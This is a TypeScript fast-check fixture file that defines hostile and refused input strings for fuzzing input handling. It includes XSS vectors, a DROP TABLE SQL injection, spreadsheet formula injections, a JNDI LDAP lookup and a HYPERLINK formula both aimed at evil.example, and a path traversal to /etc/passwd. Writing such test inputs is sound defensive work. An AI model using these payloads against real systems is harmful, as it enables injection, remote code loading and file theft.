import fc from 'fast-check';

const name = 'Kana’s iPhone';

/** Texts that once broke something somewhere. */
export const hostileTexts: Readonly<Record<string, string>> = {
  html: '<img src=x onerror="window.__xss=1">',
  script: '</script><script>window.__xss=1</script>',
  attribute: '" onmouseover="window.__xss=1" x="',
  template: '{{constructor.constructor("return 1")()}}{count, plural, one {x} other {y}}',
  link: 'javascript:window.__xss=1',
  sql: "'; DROP TABLE devices; --",
  pattern: '%_\\%\\_[a-z]*(',
  formulaEquals: '=HYPERLINK("https://evil.example","x")',
  formulaPlus: '+1+1',
  formulaMinus: '-1+1|cmd',
  formulaAt: '@SUM(1)',
  formulaWide: '＝1+1',
  formulaTab: 'x\t=1+1',
  newline: 'first\nlevel=error second\nCEF:0|Evil|Evil|1|x|x|10|',
  lineSeparator: 'first\u2028second\u2029third',
  bidiOverride: `\u202e${name}`,
  bidiIsolate: `\u2067${name}\u2069\u202e`,
  zeroWidth: `\u200b\u200d${name}\ufeff`,
  emoji: '👩‍💻📱🏴\u{e0067}\u{e0062}\u{e007f}',
  combining: `z${'\u0301'.repeat(60)}`,
  astral: '\u{10ffff}\u{1f600}',
  quotes: `"quoted", 'single'; back\\slash`,
  log: `a %s %o %j ${'$'}{jndi:ldap://evil.example/a}`,
  path: '../../../../etc/passwd',
  null: 'null',
  proto: '__proto__',
};

/** What no text may hold, or be. */
export const refusedTexts: Readonly<Record<string, string>> = {
  nul: 'a\u0000b',
  carriageReturn: 'a\rb',
  escape: '\u001b[31mred\u001b]0;title\u0007',
  delete: 'a\u007fb',
  c1: 'a\u009b31mb\u0085c',
  loneHigh: 'a\ud83d',
  loneLow: '\ude00b',
  long: 'x'.repeat(10_000),
  empty: '',
  blank: ' \t\n ',
  invisible: '\u200b\u2060\u00ad',
  invisibleFiller: '\u3164\u115f',
  onlyBidi: '\u202e\u2066',
};

const times = ['2026-11-23T07:00:00Z', '2026-11-23T16:00:00.123456+09:00', '0000-01-01T00:00:00Z'];
const words = ['P7D', 'P99999W', 'PT0M', 'Europe/Berlin', 'Success', 'blank', 'true', 'name', '-at', 'zz'];

const anyText = fc.oneof(
  fc.constantFrom(...Object.values(hostileTexts)),
  fc.constantFrom(...Object.values(refusedTexts)),
  fc.constantFrom(...times, ...words),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

const deepMark = '<deep>';

/** As JSON; what is nested too deep to be made as a value is written in. */
export function jsonOf(value: unknown): string | null {
  const json = JSON.stringify(value) as string | undefined;
  return json?.replaceAll(`"${deepMark}"`, `${'['.repeat(50_000)}${']'.repeat(50_000)}`) ?? null;
}

/** Anything that JSON can hold in the place of what was asked for. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  anyText,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 0.5, 1e308, -0, 2 ** 53, [], {}, [[]], [null]),
  fc.jsonValue({ maxDepth: 3 }),
  fc.constant(deepMark),
  fc.constantFrom<unknown>({ length: 1 }, { $ne: null }, { toString: null }, Array.from({ length: 2_000 })),
);

export const textLike = anyText;
